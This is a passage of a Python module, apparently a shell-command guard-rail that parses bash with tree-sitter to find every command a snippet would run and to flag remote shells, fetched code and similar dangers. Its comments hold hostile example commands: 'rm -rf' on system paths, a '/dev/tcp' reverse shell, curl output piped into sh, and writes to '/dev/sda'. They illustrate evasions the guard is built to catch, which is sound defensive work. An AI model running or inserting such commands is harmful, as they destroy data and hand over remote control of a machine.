"""What a piece of shell would run, for the command guard-rail (``knm.core.policy``).

tree-sitter's bash grammar parses the text (in C, linear time, every construct bash has: ``case``,
``[[ ]]``, ``$(( ))``, here-docs ...; it recovers from syntax errors instead of giving up). The
walker below then follows the text the way bash would, pessimistically:

* every word becomes the set of values it may take (``Word.alts``). A part whose value cannot be
  known here -- ``$VAR`` never assigned, ``$(cmd)``, ``$1`` -- is the marker ``U`` ("anything,
  including empty or ``/``"); ``${X:-/}`` may be ``/`` as well as whatever ``X`` holds;
  ``$(echo /)`` is ``/``. Assignments, ``for`` lists, ``cd`` and function arguments are tracked.
* wrappers that only change *how* a program runs (``sudo``, ``env``, ``timeout``, ``chroot``,
  ``systemd-run``, ``strace``, ``flock`` ...) are peeled off; code that runs elsewhere
  (``sh -c``, ``eval``, ``su -c``, ``watch``, ``xargs``, ``find -exec``, ``parallel``, here-docs
  and literal text piped into a shell, a file written by the same text and then run) is walked
  as code in its turn.
* what flows through pipes is followed far enough to tell fetched or decoded data (``curl``,
  ``base64 -d`` ...), literal text and process listings apart.

The result, ``Analysis``, lists every command that would run (``Cmd``) and the findings that
only the structure shows (fork bombs, code fetched into an interpreter, eval of unknown text).
The work is bounded: nesting deeper than ``MAX_DEPTH`` and walks longer than ``MAX_STEPS`` are
findings too, never a hang.

Beside it in ``knm.core.shell``: ``split`` (the lexer that cuts text into statements and counts
it against the limits), ``values`` (``Word``, ``Cmd``, ``Stream``), ``unwrap`` (the wrappers),
``quoting`` and ``programs`` (the program names the walk knows).
"""

from __future__ import annotations

import bisect
import fnmatch
import functools
import gc
import itertools
import math
import posixpath
import re
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field

import tree_sitter_bash
from tree_sitter import Language, Node, Parser, Tree

from knm.core.shell.programs import (
    DECODERS,
    ENV_SETUP,
    FETCHERS,
    INTERPRETERS,
    SHELLS,
    program_name,
)
from knm.core.shell.quoting import ansi_c, brace_expand, unescape, unescape_dq
from knm.core.shell.split import (
    ARGUMENTS,
    COMMAND_LIMITS,
    NO_LIMITS,
    RESERVED,
    TERMS,
    Counts,
    Limits,
    ShellSyntaxError,
    TooComplex,
    TooSlow,
    Unfollowed,
)
from knm.core.shell.split import split as split_statements
from knm.core.shell.unwrap import (
    UNWRAPS,
    Unwrapped,
    option_word,
    quoted,
    skip_options,
    strip_assignments,
    unwrap,
)
from knm.core.shell.values import (
    MAX_ALTS,
    OPAQUE_STREAM,
    UNKNOWN_STREAM,
    Cmd,
    Stream,
    U,
    Word,
    lit,
    node_text,
    normalize,
    split_unquoted,
)

#: Nested code (``sh -c`` inside ``eval`` inside ...) deeper than this is a finding.
MAX_DEPTH = 8
#: Tree nodes one analysis may visit (function bodies count once per call).
MAX_STEPS = 100_000
#: Statements nested deeper than this (``((((...))))``) are a finding, not a deep recursion.
MAX_NESTING = 120
#: Text with a syntax error the splitter sees (``knm.core.shell.split.ShellSyntaxError``), or
#: with a statement the parser finds an error in, is parsed whole up to this size, as any text
#: with an error is; past it, it is refused unparsed (tree-sitter-bash's error recovery can be
#: quadratic: ~15 ms for 1 KiB of the worst text, seconds for 64 KiB).
MAX_ERROR_PARSE = 1024

_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_EXPANSION = re.compile(r"^\$\{(#?)([A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!-])(.*)\}$", re.S)
_SPECIAL_WORD = re.compile(r"[\\~{$`]")
#: Text the lexer cuts in C, reading no word of it (``split._PLAIN_RUN``).
_LEXED_IN_C = re.compile(r"[A-Za-z0-9_./:,+@%^=\- \t\n;&|]+")
_PLAIN_COMMAND = re.compile(r"[A-Za-z0-9_./:,+@%^-]+(?:[ \t]+[A-Za-z0-9_./:,+@%^=-]+)*")


class _ThreadState(threading.local):
    """Each thread's own (a check runs in a pool thread); the class attributes are every
    thread's starting values."""

    #: tree-sitter's parser: one per thread, never shared.
    parser: Parser | None = None
    #: The clock of the parse this thread is timing, if any (``ParseClock``).
    timing: Callable[[], float] | None = None
    #: CPU seconds this thread has spent in garbage collections while timing parses.
    collected = 0.0
    collection_start = 0.0


_LOCAL = _ThreadState()
# tree-sitter-bash's scanner can crash the process on some characters outside the Basic
# Multilingual Plane (found by fuzzing); no command, path or option the checks look at holds one.
_ASTRAL = re.compile("[\U00010000-\U0010ffff]")
#: tree-sitter-bash takes a vertical tab or form feed for a blank, bash for part of a word
#: (``echo a<VT># b; rm -rf /etc`` runs ``rm``; tree-sitter-bash read a comment): the parser
#: gets a stand-in for each, a control character that is part of a word to it, of the same
#: length, and one the text does not hold (``_stand_ins``), so that the report can show which
#: it stood for (``Analysis.shown``).
_STAND_INS = "".join(map(chr, (*range(1, 9), *range(14, 32))))


def _stand_ins(text: str) -> dict[str, str]:
    """Stand-ins for the vertical tabs and form feeds of ``text``: ``{stand-in: real}``."""
    if "\v" not in text and "\f" not in text:
        return {}
    free = [c for c in _STAND_INS if c not in text] + ["\x01", "\x02"]
    return {free[0]: "\v", free[1]: "\f"}


@functools.cache
def _language() -> Language:
    return Language(tree_sitter_bash.language())


def _parser() -> Parser:
    """One parser per thread: a tree-sitter parser is not safe to share between threads."""
    parser = _LOCAL.parser
    if parser is None:
        parser = _LOCAL.parser = Parser(_language())
    return parser


def _parse(
    text: str, cancel: Callable[[], bool] | None = None, stand_ins: dict[int, int] | None = None
) -> Tree | None:
    """The tree of ``text``; with ``cancel``, asked as the parse goes, None if it answered
    True. py-tree-sitter 0.25 dropped ``timeout_micros``: a parse is cancelled by its progress
    callback returning True, which it calls every few hundred steps, and only when it reads
    the text through a read callback. A tree read so holds no text (``Node.text`` crashed the
    process), so the text is parsed again with it as the old tree: nothing changed, every
    node is reused (2-10 us for 64 KiB). ``stand_ins`` (a ``str.translate`` table) replaces
    each vertical tab and form feed (``_stand_ins``)."""
    if not text.isascii():
        text = _ASTRAL.sub("\ufffd", text)
    if "\v" in text or "\f" in text:
        text = text.translate(stand_ins or _DEFAULT_STAND_INS)
    data = text.encode("utf-8", "surrogatepass")
    parser = _parser()
    if cancel is None:
        return parser.parse(data)
    view = memoryview(data)
    try:
        textless = parser.parse(
            lambda offset, _point: view[offset:], progress_callback=lambda _o, _e: cancel()
        )
    except ValueError:  # "Parsing failed": cancelled
        parser.reset()  # or the next parse would go on with this one
        return None
    return parser.parse(data, old_tree=textless)


_DEFAULT_STAND_INS = {ord("\v"): 1, ord("\f"): 2}

#: Text shorter than this is parsed without a progress callback (it costs ~4 us a parse and
#: such text parses in well under a millisecond); its time still counts.
CANCELLABLE = 512
#: The clock parse time is measured with: the CPU time of the checking thread (a check runs in
#: a pool thread; waiting for a core on a busy machine is no cost of the check). Tests swap it.
CLOCK: Callable[[], float] = time.thread_time


def _collecting(phase: str, _info: dict[str, int]) -> None:
    """Adds each garbage collection run by a thread that is timing a parse to that thread's
    ``_LOCAL.collected``. A collection runs in whichever thread's allocation set it off and
    walks the whole heap, so in a large process one full collection can take longer than the
    whole budget (a test suite late in its run: a 12 KB text refused as too slow); the heap
    is no cost of the text."""
    clock = _LOCAL.timing
    if clock is not None:
        if phase == "start":
            _LOCAL.collection_start = clock()
        else:
            _LOCAL.collected += clock() - _LOCAL.collection_start


gc.callbacks.append(_collecting)


class ParseClock:
    """All the parse time of one check, against ``Limits.parse_seconds``: a parse is
    cancelled when the total would pass it, and ``TooSlow`` raised (as after any parse that
    brought the total past it). The limits on counts keep every text measured well under the
    budget; this is the backstop for a shape costlier per unit than any measured."""

    __slots__ = ("clock", "limits", "spent", "stand_ins")

    def __init__(self, limits: Limits, stand_ins: dict[str, str] | None = None) -> None:
        self.limits = limits
        self.clock = CLOCK
        #: CPU seconds parsing so far.
        self.spent = 0.0
        #: What the parser is given for a vertical tab or form feed (``_stand_ins``).
        self.stand_ins = {ord(real): ord(c) for c, real in (stand_ins or {}).items()} or None

    def parse(self, text: str) -> Tree:
        budget = self.limits.parse_seconds
        if budget == math.inf:
            return _parse(text, None, self.stand_ins)  # type: ignore[return-value]
        clock = self.clock
        _LOCAL.timing = clock
        start = clock() - _LOCAL.collected
        deadline = start + budget - self.spent
        try:
            cancel = (
                None if len(text) < CANCELLABLE else lambda: clock() - _LOCAL.collected > deadline
            )
            tree = _parse(text, cancel, self.stand_ins)
        finally:
            self.spent += clock() - _LOCAL.collected - start
            _LOCAL.timing = None
        if tree is None or self.spent > budget:
            raise TooSlow(self.spent, self.limits)
        return tree


# --- the result ---------------------------------------------------------------------------


@dataclass(slots=True)
class Finding:
    rule: str
    matched: str


@dataclass(slots=True)
class Analysis:
    commands: list[Cmd] = field(default_factory=list)
    findings: list[Finding] = field(default_factory=list)
    #: The characters the parser was given for vertical tabs and form feeds (``_stand_ins``):
    #: words hold them in their place.
    stand_ins: dict[str, str] = field(default_factory=dict)

    def shown(self, text: str) -> str:
        """``text`` from this analysis (a command, a word) for a report: a vertical tab or
        form feed shown escaped, ``\\v`` or ``\\f`` (the parser was given a stand-in)."""
        if not self.stand_ins:
            return text
        for stand_in, real in self.stand_ins.items():
            text = text.replace(stand_in, real)
        return text.replace("\v", "\\v").replace("\f", "\\f")


def analyze(
    text: str,
    variables: dict[str, str] | None = None,
    deferred: Sequence[str] = (),
    *,
    split: bool = True,
    limits: Limits = COMMAND_LIMITS,
) -> Analysis:
    """Every command ``text`` would run and every structural finding.

    ``variables`` are values known for this run (a script's parameters); ``deferred`` names
    variables whose value is checked later, so they count as harmless placeholders now.
    Text holding more than ``limits`` allow is a ``too-complex`` finding, found before it is
    parsed, and so is text whose parses take more CPU time than they allow (the whole-parse
    reference walk, ``split=False``, counts and times nothing)."""
    # stand-ins held by no text the walk may parse: the text and the values it is given
    walker = _Walker(split, limits, _stand_ins("".join((text, *(variables or {}).values()))))
    env = _Env()
    for name in deferred:
        env.vars[name] = (f"knm-deferred-{name}",)
    for name, value in (variables or {}).items():
        env.vars[name] = (value,)
    try:
        walker.run_code(text, env, depth=0)
    except TooSlow as error:  # from any parse, at any depth of the walk: nothing more is walked
        walker.refused = walker.exhausted = True
        walker.finding(error.rule, str(error))
    return walker.analysis


# --- the walk -----------------------------------------------------------------------------


@dataclass(slots=True)
class _Env:
    vars: dict[str, tuple[str, ...]] = field(
        default_factory=lambda: {
            "HOME": ("/root",),
            "BASH": ("/bin/bash",),
            "SHELL": ("/bin/bash",),
            "0": ("bash",),
        }
    )
    positional: list[Word] | None = None
    cwd: str = "/root"
    functions: dict[str, Node] = field(default_factory=dict)
    #: Files this text wrote: literal contents, or fetched/decoded data.
    files: dict[str, Stream] = field(default_factory=dict)
    calls: dict[str, int] = field(default_factory=dict)
    #: Names of the functions whose bodies are being walked (no endless recursion).
    active: tuple[str, ...] = ()

    def child(self) -> _Env:
        """A new shell (``sh -c``): variables and files carry over, functions do not."""
        return _Env(vars=dict(self.vars), positional=None, cwd=self.cwd, files=self.files)


#: First words the parser reads as syntax, not as a command name.
_NOT_PLAIN = RESERVED | {"export", "declare", "typeset", "local", "readonly", "unset"}
#: A piece of text the walk runs: a parsed statement, or a plain command's text (no parse).
Unit = Node | str


class _Walker:
    def __init__(
        self, split: bool = True, limits: Limits = COMMAND_LIMITS,
        stand_ins: dict[str, str] | None = None,
    ) -> None:  # fmt: skip
        self.analysis = Analysis(stand_ins=stand_ins or {})
        #: What the lexer counted in every text split so far, against ``limits``.
        self.counts = Counts(limits)
        #: A limit was passed: nothing more is parsed or walked.
        self.refused = False
        #: Every parse of this check, timed against ``limits.parse_seconds`` (untimed in the
        #: reference walk).
        self.clock = ParseClock(limits if split else NO_LIMITS, stand_ins)
        self.steps = 0
        self.exhausted = False
        self.level = 0
        #: The pipeline being walked (its node, or its text when the walk split it itself):
        #: findings about what flows into a stage name all of it.
        self.pipe: Node | str | None = None
        #: Split text at its top-level boundaries first (``knm.core.shell.split``); off, the
        #: whole text goes to the parser (the reference the split walk is compared with).
        self.split = split
        #: The chunk marks of the text ``plan`` split last (``split``), by position.
        self.marks: list[tuple[int, int, int]] = []
        #: Each distinct piece parsed once per analysis: its statement, or None (an error).
        self.pieces: dict[str, Node | None] = {}
        #: Bumped whenever the walk changes what a later statement may see (a variable, the
        #: directory, a function, a file, the positional parameters, a call count).
        self.version = 0
        #: Walks that read the commands recorded under them (loop bodies, ``$( )``).
        self.watching = 0
        #: Words of plain commands, one object per distinct text (words are never changed).
        self.plain_words: dict[str, Word] = {}
        #: Whether the last ``memoized`` recorded all its ``times`` at once.
        self.bulk = False
        #: Plain commands ``inert`` declined (it is not asked again).
        self.not_inert: set[str] = set()
        #: Top-level statements already walked in an unchanged state (see ``memo_statement``).
        self.memo: dict[tuple[object, ...], tuple[int, list[Cmd], Stream, _Env]] = {}

    def finding(self, rule: str, matched: str) -> None:
        self.analysis.findings.append(Finding(rule, matched.strip()[:500]))

    # --- entry points -----------------------------------------------------------------

    def run_code(self, text: str, env: _Env, depth: int, stdin: Stream = UNKNOWN_STREAM) -> Stream:
        if ("@(" in text or "!(" in text or "/*(" in text or "/+(" in text or "/?(" in text) and (
            _EXTGLOB.search(text)
        ):
            # ``/@(etc|usr)``, ``/!(tmp)``: tree-sitter-bash reads a subshell; bash (extglob)
            # a pattern. Read as ``*`` of the same length, anything in that place.
            text = _EXTGLOB.sub(lambda m: "*" * len(m.group()), text)
        if depth > MAX_DEPTH:
            self.finding("nesting-too-deep", "nested shell code")
            return UNKNOWN_STREAM
        if self.refused:
            return UNKNOWN_STREAM
        try:
            plan = self.plan(text) if self.split else None
        except TooComplex as error:
            self.refused = self.exhausted = True
            self.finding(error.rule, str(error))
            return UNKNOWN_STREAM
        except ShellSyntaxError as error:
            if len(text) > MAX_ERROR_PARSE:
                self.finding("too-complex", f"a syntax error in a command of {len(text)} "
                             f"characters ({error}): too long to check around it")  # fmt: skip
                return UNKNOWN_STREAM
            plan = None
        if plan is None:
            tree = self.clock.parse(text)
            return self.statements(list(tree.root_node.named_children), env, depth, stdin)
        out = UNKNOWN_STREAM
        for key, pipelines, background, count in plan:
            if count == 1 and len(pipelines) == 1 and len(pipelines[0][0]) == 1:
                unit = pipelines[0][0][0]
                if unit.__class__ is str and unit not in self.not_inert:
                    fast = self.inert(unit, env, stdin, background)
                    if fast is not None:
                        out = fast
                        continue
                    self.not_inert.add(unit)  # the usual path, always right, from now on
            out = self.memo_statement(key, pipelines, background, env, depth, stdin)
            while count > 1:  # ``a; a; a``: the same statement again, in the state it left
                count -= 1
                out = self.memo_statement(key, pipelines, background, env, depth, stdin, count)
                count = 1 if self.bulk else count
        return out

    def inert(self, text: str, env: _Env, stdin: Stream, background: bool) -> Stream | None:
        """A plain top-level command of a program the walk follows nothing of (no wrapper,
        shell, interpreter, function or effect on its state), recorded as ``unit``, ``plain``
        and ``run`` would record it -- the same steps, command and output -- without their
        layers and the memo (most of a long script of distinct commands). None when the
        command is not such, or a limit is near: the walk then takes the usual path."""
        if self.steps + 2 > MAX_STEPS or self.level >= MAX_NESTING:
            return None
        program = text.split(None, 1)[0]
        name = program_name(program)
        if (
            "=" in program
            or name in UNWRAPS
            or name in INTERPRETERS
            or name in _EFFECTS
            or name in _FOLLOWED
            or name in env.functions
            or ("/" in program and env.files)  # a file this text wrote may be run
            or name == "alias"
            or f"alias {name}" in env.vars
        ):
            return None
        self.steps += 2  # ``enter`` and ``run``
        words = self.plain_split(text)
        self.emit(Cmd(words, text, [], stdin, env.cwd, background), env)
        return Stream(tainted=True) if stdin.tainted else OPAQUE_STREAM

    def memo_statement(
        self, key: str, pipelines: list[tuple[list[Unit], str]], background: bool, env: _Env,
        depth: int, stdin: Stream, times: int = 1,
    ) -> Stream:  # fmt: skip
        """A top-level statement, through ``memoized``."""
        return self.memoized(
            (key, background, stdin, depth), env, times,
            lambda: self.chain(pipelines, len(pipelines), env, depth, stdin, background),
        )  # fmt: skip

    def memoized(
        self, key: tuple[object, ...], env: _Env, times: int, walk: Callable[[], Stream]
    ) -> Stream:
        """``walk()``, done once per distinct ``key`` and state: a statement that changed
        nothing, met again in the same state (``version``), records what it did again without
        another walk -- same steps counted, its commands again only if a loop or a ``$( )``
        around it reads them (elsewhere they would only repeat the same verdicts). ``times``
        such statements in a row are recorded at once (``bulk``) when they fit in the step
        limit."""
        # The memo holds ``env`` itself, so its id is never reused during the walk.
        memo_key = (*key, self.version, id(env), self.level, self.pipe)
        hit = self.memo.get(memo_key)
        self.bulk = hit is not None and self.steps + hit[0] * times <= MAX_STEPS
        if hit is not None and (self.bulk or self.steps + hit[0] <= MAX_STEPS):
            steps, commands, out, _ = hit
            repeat = times if self.bulk else 1
            self.steps += steps * repeat
            if self.watching:
                self.analysis.commands.extend(commands * repeat)
            return out
        version, steps, before = self.version, self.steps, len(self.analysis.commands)
        out = walk()
        if self.version == version and not self.exhausted:
            self.memo[memo_key] = (self.steps - steps, self.analysis.commands[before:], out, env)
        self.bulk = False
        return out

    def plan(self, text: str) -> list[tuple[str, list[tuple[list[Unit], str]], bool, int]] | None:
        """``text`` as top-level statements, each a list of pipelines joined by ``&&``/``||``
        (a pipeline: its stages and its text), or None when the whole text must be parsed:
        the splitter cannot follow it, or the parser finds an error in a piece."""
        marks: list[tuple[int, int, int]] = []
        items = split_statements(text, self.counts, marks)
        if items is None:
            if len(text) > MAX_ERROR_PARSE and self.counts.limits is not NO_LIMITS:
                # Only text the lexer does not follow (a here-doc's body inside ``(( ))``
                # ...): the parse of the whole may be quadratic when it holds an error.
                raise Unfollowed(len(text), self.counts.limits)
            return None
        self.marks = sorted(marks)
        plan = []
        for item in items:
            pipelines = item.pipelines
            if (
                item.whole
                or (len(pipelines) == 1 and len(pipelines[0].stages) == 1)
                # tree-sitter-bash nests ``a | b | c && d`` as ``a | (b | c && d)``: walked
                # as the parser reads it, whole, as before.
                or (len(pipelines) > 1 and len(pipelines[0].stages) > 2)
                # The walk stops at MAX_NESTING levels of ``&&``/``||`` anyway: the parser
                # builds that nesting faster than the pieces would be prepared.
                or len(pipelines) > MAX_NESTING
            ):
                key = item.source(text)
                unit = self.piece(key, True, item.start, item.end - item.start)
                if unit is None:
                    return self._error_in_piece(text, item.start)
                plan.append((key, [([unit], "")], item.background, item.count))
                continue
            pipelines = []
            for pipeline in item.pipelines:
                stages = []
                for start, end in pipeline.stages:
                    unit = self.piece(text[start:end], False, start)
                    if unit is None:
                        return self._error_in_piece(text, start)
                    stages.append(unit)
                span = text[pipeline.stages[0][0] : pipeline.stages[-1][1]]
                pipelines.append((stages, span))
            plan.append((text[item.start : item.end], pipelines, item.background, item.count))
        return plan

    @staticmethod
    def _error_in_piece(text: str, start: int) -> None:
        """A piece the parser finds an error in: the whole text is parsed and walked instead
        (error recovery depends on context) if it is short; a long one is refused as for the
        errors the lexer sees (the parser's error recovery can be quadratic in its length)."""
        if len(text) > MAX_ERROR_PARSE:
            raise ShellSyntaxError(start, "a statement the parser finds a syntax error in")
        return None

    def piece(
        self, text: str, ended: bool = False, offset: int = 0, span: int | None = None
    ) -> Unit | None:
        """A plain command stays text; anything else is parsed (once per distinct text).
        A whole statement is parsed ``ended`` by ``;``: tree-sitter-bash reads a long
        pipeline in an and-or list differently at the end of the text. A piece longer than
        ``MAX_ERROR_PARSE`` (at ``offset`` in the text ``plan`` split; its first ``span``
        characters there, the rest being its here-docs' bodies from further on) is first parsed
        chunk by chunk where the lexer marked it (``_chunks_parse``)."""
        if _PLAIN_COMMAND.fullmatch(text) and text.split(None, 1)[0] not in _NOT_PLAIN:
            return text
        source = f"{text};" if ended and "<<" not in text else text
        if source in self.pieces:
            return self.pieces[source]
        self.counts.parse()
        if len(text) > MAX_ERROR_PARSE and _LEXED_IN_C.fullmatch(text):
            # A long statement of plain words the lexer cut in C without reading them one by
            # one (``= a a ...``, ``export a b ...``) is still parsed and walked word by word.
            self.counts.expansion(len(text.split()))
        if len(text) > MAX_ERROR_PARSE and not _chunks_parse(
            text[: len(text) if span is None else span], offset, self.marks, self.clock.parse
        ):
            self.pieces[source] = None
            return None
        root = self.clock.parse(source).root_node
        nodes = [c for c in root.named_children if c.type != "comment"]
        node = nodes[0] if len(nodes) == 1 and not root.has_error else None
        self.pieces[source] = node
        return node

    def chain(
        self, pipelines: list[tuple[list[Unit], str]], count: int, env: _Env, depth: int,
        stdin: Stream, background: bool,
    ) -> Stream:  # fmt: skip
        """The first ``count`` pipelines of an and-or list, walked as the parser nests them
        (``a && b || c`` is ``list(list(a, b), c)``: one statement, and one level, per
        operator)."""
        if count == 1:
            stages, span = pipelines[0]
            if len(stages) == 1:
                return self.unit(stages[0], env, depth, stdin, background)
            if not self.enter():
                return UNKNOWN_STREAM
            saved = self.pipe
            self.pipe = span
            try:
                return self.stages(stages, env, depth, stdin)
            finally:
                self.pipe = saved
                self.level -= 1
        if not self.enter():
            return UNKNOWN_STREAM
        try:
            self.chain(pipelines, count - 1, env, depth, stdin, background)
            return self.chain([pipelines[count - 1]], 1, env, depth, stdin, background)
        finally:
            self.level -= 1

    def stages(self, stages: list[Unit], env: _Env, depth: int, stdin: Stream) -> Stream:
        """The stages of a pipeline (all asynchronous), each fed the one before. A stage
        written again right after itself (``a | a | a``) that gives out what it was fed is
        recorded at once for all of its run (``memoized``)."""
        out = stdin
        i = 0
        while i < len(stages):
            stage = stages[i]
            run = 1
            while i + run < len(stages) and stages[i + run] == stage:
                run += 1
            i += run
            while run:
                fed = out
                out = self.memoized(
                    ("|", stage, fed, depth), env, run,
                    lambda s=stage, f=fed: self.unit(s, env, depth, f, True),
                )  # fmt: skip
                run = 0 if self.bulk and out == fed else run - 1
        return out

    def unit(self, unit: Unit, env: _Env, depth: int, stdin: Stream, background: bool) -> Stream:
        if not isinstance(unit, str):
            return self.statement(unit, env, depth, stdin, background)
        if not self.enter():
            return UNKNOWN_STREAM
        try:
            return self.plain(unit, env, depth, stdin, background, [])
        finally:
            self.level -= 1

    def pipe_text(self, cmd: Cmd) -> str:
        if self.pipe is None:
            return cmd.written
        return self.pipe if isinstance(self.pipe, str) else node_text(self.pipe)

    def step(self) -> bool:
        self.steps += 1
        if self.steps > MAX_STEPS:
            if not self.exhausted:
                self.exhausted = True
                self.finding("too-complex", "the command is too large to check")
            return False
        return True

    # --- statements -------------------------------------------------------------------

    def statements(
        self, nodes: list[Node], env: _Env, depth: int, stdin: Stream = UNKNOWN_STREAM,
        asynchronous: bool = False,
    ) -> Stream:  # fmt: skip
        """Walk a sequence of statements; the output of the last one is returned."""
        out = UNKNOWN_STREAM
        for node in nodes:
            if node.type == "comment":
                continue
            background = asynchronous or _followed_by_amp(node)
            out = self.statement(node, env, depth, stdin, background)
        return out

    def enter(self) -> bool:
        """One more statement, one level deeper: False past the limits (a finding then)."""
        if not self.step():
            return False
        if self.level >= MAX_NESTING:
            if not any(f.rule == "nesting-too-deep" for f in self.analysis.findings):
                self.finding("nesting-too-deep", "statements nested too deeply")
            return False
        self.level += 1
        return True

    def statement(
        self, node: Node, env: _Env, depth: int, stdin: Stream, background: bool
    ) -> Stream:
        if not self.enter():
            return UNKNOWN_STREAM
        try:
            return self._statement(node, env, depth, stdin, background)
        finally:
            self.level -= 1

    def _statement(
        self, node: Node, env: _Env, depth: int, stdin: Stream, background: bool
    ) -> Stream:
        kind = node.type
        if kind == "command":
            return self.command(node, env, depth, stdin, background, [])
        if kind == "redirected_statement":
            return self.redirected(node, env, depth, stdin, background)
        if kind == "pipeline":
            return self.pipeline(list(node.named_children), env, depth, stdin, background)
        if kind == "list":
            return self.statements(list(node.named_children), env, depth, stdin, background)
        if kind == "variable_assignment":
            self.assign(node, env, depth)
            return UNKNOWN_STREAM
        if kind == "variable_assignments":
            for child in node.named_children:
                self.assign(child, env, depth)
            return UNKNOWN_STREAM
        if kind == "declaration_command":
            for child in node.named_children:
                if child.type == "variable_assignment":
                    self.assign(child, env, depth)
                else:
                    self.word(child, env, depth)
            return UNKNOWN_STREAM
        if kind == "function_definition":
            self.define(node, env, depth)
            return UNKNOWN_STREAM
        if kind in ("while_statement", "until_statement"):
            return self.loop(node, env, depth, stdin, background)
        if kind == "c_style_for_statement":
            return self.c_for(node, env, depth, stdin, background)
        if kind == "for_statement":
            return self.for_in(node, env, depth, stdin, background)
        if kind == "case_statement":
            value = node.child_by_field_name("value")
            if value is not None:
                self.word(value, env, depth)
            out = UNKNOWN_STREAM
            for item in node.named_children:
                if item.type == "case_item":
                    body = [c for c in item.named_children if _is_statement(c)]
                    out = self.statements(body, env, depth, stdin, background)
            return out
        if kind == "test_command" and node.has_error and depth <= MAX_DEPTH:
            # tree-sitter-bash reads a bare ``/`` in ``[ -d / ]`` as division and folds the
            # rest of the text (``&& rm -rf /``) into the test; bash runs ``[`` as a command.
            text = node_text(node)
            if text.startswith("["):
                self.run_code("\\" + text, env, depth, stdin)
                return UNKNOWN_STREAM
        if kind in ("test_command", "unset_command"):
            for sub in _walk(node):
                if sub.type in ("command_substitution", "process_substitution"):
                    self.word(sub, env, depth)
            return UNKNOWN_STREAM
        if kind == "negated_command":
            return self.statements(list(node.named_children), env, depth, stdin, background)
        if kind in ("word", "concatenation", "string", "simple_expansion", "expansion",
                    "command_substitution", "raw_string", "arithmetic_expansion"):  # fmt: skip
            self.word(node, env, depth)
            return UNKNOWN_STREAM
        # compound_statement, subshell, if/elif/else, do_group, ERROR, program ...
        children = [c for c in node.named_children if c.type != "comment"]
        return self.statements(children, env, depth, stdin, background)

    def redirected(
        self, node: Node, env: _Env, depth: int, stdin: Stream, background: bool
    ) -> Stream:
        body = node.child_by_field_name("body")
        redirects: list[tuple[str, Word]] = []
        trailing: list[Node] = []
        if body is not None and body.type in ("file_redirect", "heredoc_redirect",
                                              "herestring_redirect"):  # fmt: skip
            body = None
        for child in node.named_children:
            if child is body or child == body:
                continue
            if child.type == "file_redirect":
                op, target = self.redirect(child, env, depth)
                if target is not None:
                    redirects.append((op, target))
                    if op == "<" and target.tainted:  # ``sh < <(curl ..)``
                        stdin = Stream(tainted=True)
                    elif op in ("<", "<&") and target.literal is not None:
                        stdin = self.read_file(target, env)
                    elif op == "<" and (target.tainted or target.unknown):
                        stdin = Stream(tainted=target.tainted)
            elif child.type == "heredoc_redirect":
                text, rest = _heredoc(child)
                stdin = Stream(text=text, tainted=self.heredoc_expands(child, env, depth))
                trailing.extend(rest)
            elif child.type == "herestring_redirect":
                value = next((c for c in child.named_children), None)
                if value is not None:
                    word = self.word(value, env, depth)
                    stdin = _herestring(word)
        if body is None:  # ``> /dev/sda`` alone truncates its target
            if redirects:
                self.emit(Cmd([lit(":")], node_text(node), redirects, stdin, env.cwd), env)
            return UNKNOWN_STREAM
        if trailing:
            # ``cat <<EOF | sh``: tree-sitter keeps the rest of the pipeline in the here-doc.
            first = self.statement_with(body, env, depth, stdin, background, redirects)
            out = first
            for extra in trailing:
                if extra.type == "pipeline":
                    out = self.pipeline(list(extra.named_children), env, depth, out, background)
                else:
                    out = self.statement(extra, env, depth, UNKNOWN_STREAM, background)
            return out
        return self.statement_with(body, env, depth, stdin, background, redirects)

    def heredoc_expands(self, node: Node, env: _Env, depth: int) -> bool:
        """An unquoted here-doc's body holds an expansion whose value is not known here (or
        fetched): fed to a shell, that is code not known here, as ``sh -c "$X"``."""
        for child in node.named_children:
            if child.type != "heredoc_body":
                continue
            for part in child.named_children:
                if part.type in ("simple_expansion", "expansion", "command_substitution"):
                    word = self.word(part, env, depth)
                    if word.tainted:
                        return True
                    if word.unknown:
                        names = [n for n in _walk(self.clock.parse(node_text(child)).root_node)
                                 if n.type == "command_name"]  # fmt: skip
                        return any(self.word(n, env, depth).unknown for n in names)
        return False

    def unknown_code(self, text: str) -> bool:
        """Text to be read as code holding a value not known here where a command goes."""
        return _PLACEHOLDER in text and (
            text.strip() == _PLACEHOLDER or _unknown_command_position(self.clock.parse(text))
        )

    def statement_with(
        self, body: Node, env: _Env, depth: int, stdin: Stream, background: bool,
        redirects: list[tuple[str, Word]],
    ) -> Stream:  # fmt: skip
        if body.type == "command":
            return self.command(body, env, depth, stdin, background, redirects)
        before = len(self.analysis.commands)
        out = self.statement(body, env, depth, stdin, background)
        if redirects:  # ``{ ...; } > /dev/sda``: the group's output lands there
            if any(t.value.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in redirects) and any(
                c.program in SHELLS for c in self.analysis.commands[before:]
            ):  # ``true && bash -i >& /dev/tcp/h/p 0>&1``: a shell on the network
                self.finding("remote-code", node_text(body)[:200])
            self.emit(Cmd([lit(":")], node_text(body)[:200], redirects, out, env.cwd), env)
        return out

    def redirect(self, node: Node, env: _Env, depth: int) -> tuple[str, Word | None]:
        op = "".join(
            c.text.decode(errors="replace")
            for c in node.children
            if not c.is_named or c.type == "ERROR"
        )
        if op == "<>":  # ``1<> FILE`` writes over FILE's bytes in place; ``<> FILE`` reads it
            fd = next((c for c in node.named_children if c.type == "file_descriptor"), None)
            if fd is not None and fd.text not in (b"0", None):
                op = fd.text.decode(errors="replace") + op
        target = node.child_by_field_name("destination")
        if target is None:
            named = [c for c in node.named_children if c.type not in ("file_descriptor", "ERROR")]
            target = named[-1] if named else None
        if target is None:
            return op, None
        return op, self.word(target, env, depth)

    def read_file(self, target: Word, env: _Env) -> Stream:
        path = target.literal or ""
        if path.startswith(("/dev/tcp/", "/dev/udp/")):
            return Stream(tainted=True)
        if path in _ENDLESS_FILES:
            return Stream(endless=True)
        return env.files.get(normalize(path, env.cwd), UNKNOWN_STREAM)

    def pipeline(
        self, stages: list[Node], env: _Env, depth: int, stdin: Stream, background: bool
    ) -> Stream:
        stages = [s for s in stages if s.type != "comment"]
        out = stdin
        many = len(stages) > 1
        saved = self.pipe
        if stages and stages[0].parent is not None and stages[0].parent.type == "pipeline":
            self.pipe = stages[0].parent
        try:
            for stage in stages:
                out = self.statement(stage, env, depth, out, background or many)
        finally:
